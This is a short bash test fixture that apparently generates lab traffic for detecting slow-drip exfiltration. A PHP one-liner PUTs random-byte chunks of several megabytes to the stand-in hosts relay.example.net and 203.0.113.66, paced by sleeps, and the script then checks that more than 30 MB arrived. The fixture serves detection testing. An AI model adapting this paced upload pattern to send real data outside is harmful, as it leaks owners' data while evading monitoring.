#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=slow-drip half=report tool=php seconds=100 parts=dns,outside-web ticks=1000ms hour=10
# PHP puts 2 to 6 MB outside each hour of a night, by turns to two names of one place; of the idle time between, all but ten seconds was put in afterwards.
# shellcheck disable=SC2016 # PHP has its own variables
php -r 'for ($n = 0; $n < 9; $n++) { sleep(2 + $n % 4); $h = ["relay.example.net", "203.0.113.66"][$n % 2];
file_get_contents("http://$h/drop/part$n", false, stream_context_create(["http" => ["method" => "PUT", "content" => random_bytes(2000000 + 500000 * (($n * 5) % 9))]])); sleep(8 - $n % 4); }'
[ "$(du -cb "$LAB"/outside/drop/part* | tail -n 1 | cut -f1)" -gt 30000000 ]
